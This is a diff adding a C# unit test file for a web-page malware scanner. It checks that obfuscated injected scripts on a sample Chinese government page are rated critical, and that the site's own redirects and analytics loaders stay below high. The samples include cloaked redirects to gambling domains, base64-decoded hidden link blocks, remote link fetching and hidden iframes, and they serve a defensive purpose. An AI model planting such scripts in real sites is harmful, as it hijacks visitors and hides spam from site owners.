@@ -1,0 +1,147 @@
+using System.Text;
+using Scanner.Core.Analyzers;
+using Scanner.Core.Loading;
+using Scanner.Core.Model;
+using Scanner.Core.Rules;
+
+namespace Scanner.Core.Tests.Analyzers;
+
+/// <summary>
+/// Issue 14, items 5 and 7: the inline scripts of the blind set of hacked pages (written by someone who never saw this
+/// code) that the static engine missed, and variants of each evasion class — a redirect to another site behind a test of
+/// the visitor with a URL built at run time, escaped property names, base64 → bytes → TextDecoder → document.write,
+/// and a tiny frame a script makes — on snapshots the static engine's builder makes, with the shipped rules. Beside them,
+/// what must stay below high: a site's own mobile redirect, a referrer check that stays on the site, analytics loaders,
+/// a map frame made by a script.
+/// </summary>
+public sealed class BlindSetScriptTests
+{
+    private static readonly RuleSet Shipped = RuleSetLoader.Load(new RuleSources { RulePaths = [RuleSetLoader.DefaultRulesDirectory] });
+    private const string Url = "http://www.qingshan.gov.cn/zwgk/tzgg/index.html";
+
+    private static List<Finding> Analyze(string script)
+    {
+        var html = "<!DOCTYPE html><html lang=\"zh-CN\"><head><meta charset=\"utf-8\"><title>通知公告_青山县人民政府</title></head><body>"
+            + "<div class=\"top\">青山县人民政府</div><ul class=\"list\"><li><a href=\"/zwgk/1.html\">关于做好冬季森林防火工作的通知</a></li></ul>"
+            + $"<script type=\"text/javascript\">{script}</script></body></html>";
+        var page = StaticSnapshotBuilder.Build(html, new Uri(Url), new PageSnapshot { RequestedUrl = Url, FinalUrl = Url, Status = 200 });
+        return new PageAnalysis(PageAnalysis.DefaultAnalyzers, Shipped).Analyze(page).ToList();
+    }
+
+    private static string Describe(IEnumerable<Finding> findings) =>
+        string.Join("\n", findings.Select(f => $"  {f.Severity} {f.RuleId} {f.Evidence.Split('\n')[0]} — {string.Join("; ", f.Reasons)}"));
+
+    private static Finding Expect(List<Finding> findings, string rule, Severity atLeast)
+    {
+        var found = findings.Where(f => f.RuleId == rule && f.Severity >= atLeast).ToList();
+        Assert.True(found.Count > 0, $"expected {rule} at {atLeast} or above; got:\n{Describe(findings)}");
+        return found[0];
+    }
+
+    private static string Hex(string s) => string.Concat(s.Select(c => $"\\x{(int)c:x2}"));
+
+    public static TheoryData<string, string, string> Redirects => new()
+    {
+        // 1. a phone test, the URL built by concatenation, location.replace(variable) in a timer
+        { "var ua=navigator.userAgent;if(/(iPhone|iPod|Android|ios|Mobile|UCBrowser|MQQBrowser)/i.test(ua)){var u=\"ht\"+\"tps://\"+\"m.9159jsc\"+\".vip/r/8a7c\";setTimeout(function(){location.replace(u)},10);}",
+          "m.9159jsc.vip", "for a mobile device" },
+        // 2. time zone and language, the URL built by [...].join("/"), top.location.href
+        { "try{var z=Intl.DateTimeFormat().resolvedOptions().timeZone,l=(navigator.language||\"\").toLowerCase();\n"
+          + "if((z==\"Asia/Shanghai\"||z==\"Asia/Chongqing\"||z==\"Asia/Urumqi\")&&l.indexOf(\"zh\")==0&&!/bot|spider|crawl/i.test(navigator.userAgent)){top.location.href=[\"https:\",\"\",\"www.kyty\"+\"8866.vip\",\"?c=12\"].join(\"/\");}}catch(e){}",
+          "www.kyty8866.vip", "the time zone" },
+        // 3. escaped property names and URL, delayed
+        { $"setTimeout(function(){{var a=[\"{Hex("location")}\",\"{Hex("href")}\"];window[a[0]][a[1]]=\"{Hex("https://www.js7989.cc/?id=728")}\";}},1200);",
+          "www.js7989.cc", "every visitor" },
+        // variants of the class: getTimezoneOffset and a referrer from a search engine, the URL from an array joined with "".
+        { "var r=document.referrer,o=new Date().getTimezoneOffset();if(o==-480&&/baidu|sogou|so\\.com|sm\\.cn/.test(r)){var p=[\"ht\",\"tp:\",\"//\",\"www.\",\"bc5x9\",\".com\",\"/\"];location.assign(p.join(\"\"));}",
+          "www.bc5x9.com", "the referrer" },
+        // only on a first visit (a cookie), the host reversed
+        { "if(document.cookie.indexOf(\"_vt=\")<0){document.cookie=\"_vt=1;path=/\";var h=\"moc.7k9ff88.www\".split(\"\").reverse().join(\"\");window.location=\"http://\"+h+\"/\";}",
+          "www.88ff9k7.com", "a cookie" },
+        // a phone test behind matchMedia and touch, the target in a variable set by a function
+        { "function t(){return String.fromCharCode(104,116,116,112,58,47,47)+'m.yh'+(2*3)+'6x.top/';}if('ontouchstart' in window&&window.matchMedia('(max-width: 768px)').matches){window.location.href=t();}",
+          "m.yh66x.top", "a phone in China" },
+    };
+
+    [Theory]
+    [MemberData(nameof(Redirects))]
+    public void A_redirect_to_another_site_built_at_run_time_is_critical_on_the_static_engine(string script, string host, string reason)
+    {
+        var findings = Analyze(script);
+        var finding = Expect(findings, RedirectAnalyzer.CrossDomainRule, Severity.Critical);
+        Assert.Equal(host, finding.MatchedTerm);
+        Assert.Contains(finding.Reasons, r => r.Contains(reason, StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public void A_base64_payload_decoded_through_bytes_and_TextDecoder_that_writes_hidden_links_is_critical()
+    {
+        var block = "<div id=\"ad_gg\" style=\"position:fixed;left:-3000px\">"
+            + string.Join("", new[] { ("xpj5825.com", "新葡京娱乐"), ("www.bet9k7.com", "澳门百家乐"), ("www.hg0088x.net", "皇冠体育"), ("www.js8k2x.com", "金沙娱乐城") }
+                .Select(l => $"<a href=\"http://{l.Item1}/\">{l.Item2}</a>")) + "</div>";
+        var b64 = Convert.ToBase64String(Encoding.UTF8.GetBytes(block));
+        var findings = Analyze("(function(s){var b=atob(s),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);"
+            + $"document.write(new TextDecoder(\"utf-8\").decode(u));}})(\"{b64}\")");
+        var finding = Expect(findings, ScriptInjectionAnalyzer.WritesLinksRule, Severity.Critical);
+        Assert.Contains("xpj5825.com", finding.MatchedTerm);
+    }
+
+    [Fact]
+    public void A_script_that_fetches_links_from_a_url_kept_in_a_variable_and_writes_them_is_found()
+    {
+        var findings = Analyze("var u=\"ht\"+\"tp://www.k8x79s.com/\"+\"links.html\";fetch(u).then(function(r){return r.text()})"
+            + ".then(function(h){document.getElementById(\"yqlj\").innerHTML=h});");
+        var finding = Expect(findings, ScriptInjectionAnalyzer.FetchesMarkupRule, Severity.Critical);
+        Assert.Equal("www.k8x79s.com", finding.MatchedTerm);
+    }
+
+    [Theory]
+    [InlineData("var i=document.createElement(\"iframe\");i.src=\"http://www.520av34.cc/\";i.width=1;i.height=1;i.style.visibility=\"hidden\";document.body.appendChild(i);", "www.520av34.cc")]
+    [InlineData("var f=document.createElement('iframe');f.setAttribute('src','ht'+'tp://www.qp88x7.com/');f.style.cssText='width:0;height:0;border:0';document.body.appendChild(f);", "www.qp88x7.com")]
+    [InlineData("document.write('<ifr'+'ame src=\"http://www.6k8x9.net/\" width=\"0\" height=\"0\" frameborder=\"0\"></ifr'+'ame>');", "www.6k8x9.net")]
+    public void A_hidden_or_tiny_frame_a_script_makes_for_a_random_looking_site_is_high(string script, string host)
+    {
+        var findings = Analyze(script);
+        var finding = Expect(findings, RedirectAnalyzer.HiddenFrameRule, Severity.High);
+        Assert.Equal(host, finding.MatchedTerm);
+        Assert.Contains(finding.Reasons, r => r.Contains("looks random", StringComparison.Ordinal));
+        Assert.True(finding.Hidden);
+    }
+
+    [Fact]
+    public void A_hidden_frame_a_script_makes_for_an_ordinary_name_is_medium()
+    {
+        var findings = Analyze("var i=document.createElement('iframe');i.src='https://www.partner-stats.com/sync';i.style.display='none';document.body.appendChild(i);");
+        Assert.Equal(Severity.Medium, Assert.Single(findings, f => f.RuleId == RedirectAnalyzer.HiddenFrameRule).Severity);
+    }
+
+    public static TheoryData<string> StayBelowHigh => new()
+    {
+        // the site's own mobile edition, literal and computed from the page's host
+        "if(/Android|iPhone|iPod/i.test(navigator.userAgent)){location.href='https://m.qingshan.gov.cn/';}",
+        "if(/Android|iPhone|iPod|Mobile/i.test(navigator.userAgent)){var h=location.hostname.replace(/^www\\./,'');location.replace('https://m.'+h+location.pathname);}",
+        // a referrer check that stays on the site
+        "var r=document.referrer;if(r.indexOf('baidu.com')>-1||r.indexOf('so.com')>-1){setTimeout(function(){location.href=location.protocol+'//'+location.host+'/special/index.html';},10);}",
+        // a language switch to the site's English pages
+        "if((navigator.language||navigator.userLanguage).toLowerCase().indexOf('en')==0&&document.cookie.indexOf('lang=')<0){document.cookie='lang=en';location.href='/en/index.html';}",
+        // Baidu analytics and the Baidu push loader, Google Analytics
+        "var _hmt=_hmt||[];(function(){var hm=document.createElement(\"script\");hm.src=\"https://hm.baidu.com/hm.js?0a1b2c3d4e5f60718293a4b5c6d7e8f9\";var s=document.getElementsByTagName(\"script\")[0];s.parentNode.insertBefore(hm,s);})();",
+        "(function(){var bp=document.createElement('script');var curProtocol=window.location.protocol.split(':')[0];if(curProtocol==='https'){bp.src='https://zz.bdstatic.com/linksubmit/push.js';}else{bp.src='http://push.zhanzhang.baidu.com/push.js';}var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(bp,s);})();",
+        "(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');ga('create','UA-12345-1','auto');ga('send','pageview');",
+        // a map frame and a video frame a script makes
+        "var f=document.createElement('iframe');f.src='https://map.baidu.com/?latlng=28.1,112.9&title=青山县人民政府';f.width='100%';f.height=420;f.frameBorder=0;document.getElementById('map').appendChild(f);",
+        "var v=document.createElement('iframe');v.src='https://player.youku.com/embed/XNDk1';v.style.width='640px';v.style.height='360px';document.body.appendChild(v);",
+        // a search box that goes to the national portal's search on a click
+        "document.getElementById('sbtn').onclick=function(){var q=document.getElementById('kw').value;window.location.href='https://sousuo.www.gov.cn/sousuo/search.shtml?code=17da70961a7&searchWord='+encodeURIComponent(q);};",
+        // a partner site opened from a click, its URL built: may never run
+        "document.getElementById('go').addEventListener('click',function(){location.href='http://'+'www.hnzwfw'+'.example.com/';});",
+    };
+
+    [Theory]
+    [MemberData(nameof(StayBelowHigh))]
+    public void Own_site_redirects_analytics_loaders_and_map_frames_stay_below_high(string script)
+    {
+        var findings = Analyze(script);
+        Assert.True(findings.All(f => f.Severity < Severity.High), Describe(findings));
+    }
+}
